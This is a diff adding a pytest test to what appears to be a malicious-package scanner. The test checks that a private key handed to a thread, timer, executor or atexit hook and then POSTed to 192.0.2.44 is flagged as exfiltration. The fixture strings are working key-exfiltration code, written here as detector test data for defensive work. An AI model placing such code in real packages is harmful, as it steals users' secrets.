@@ -399,6 +399,29 @@ def test_a_credential_file_sent_at_import_even_to_a_host_named_after_the_package
         assert verdict is not Verdict.MALICIOUS, findings
 
 
+@pytest.mark.parametrize(
+    "hand_off",
+    [
+        "threading.Thread(target=_report, args=({'p': private_key},), daemon=True).start()",
+        "threading.Timer(0.5, _report, args=[private_key]).start()",
+        "concurrent.futures.ThreadPoolExecutor().submit(_report, private_key)",
+        "atexit.register(_report, private_key)",
+    ],
+    ids=["thread", "timer", "executor", "atexit"],
+)
+def test_a_secret_handed_to_a_thread_reaches_what_the_thread_runs(tmp_path: Path, hand_off: str) -> None:
+    helper = (
+        "import atexit, concurrent.futures, threading, urllib.request\n\n"
+        "def _report(body):\n"
+        "    urllib.request.urlopen('http://192.0.2.44:8443/r', data=str(body).encode())\n\n"
+        f"def import_key(private_key):\n    {hand_off}\n    return len(private_key)\n"
+    )
+    files = {f"{DEFAULT_NAME}/__init__.py": "", f"{DEFAULT_NAME}/keys.py": helper}
+    verdict, findings = scan_package(tmp_path, files)
+    assert verdict is Verdict.MALICIOUS, findings
+    assert any(f.startswith("exfil-flow:critical") for f in findings), findings
+
+
 def test_exfil_flow_benign_api_client_sends_its_token_to_a_parameter_url(tmp_path: Path) -> None:
     verdict, findings = scan_package(
         tmp_path,
